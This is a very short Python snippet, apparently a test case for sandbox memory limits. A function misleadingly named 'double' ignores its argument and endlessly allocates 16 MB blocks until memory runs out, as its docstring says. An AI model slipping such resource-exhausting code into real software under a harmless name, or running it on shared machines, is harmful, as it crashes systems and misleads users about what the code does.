"""Fills its memory piece by piece."""


def double(x):
    kept = []
    while True:
        kept.append(bytearray(1 << 24))
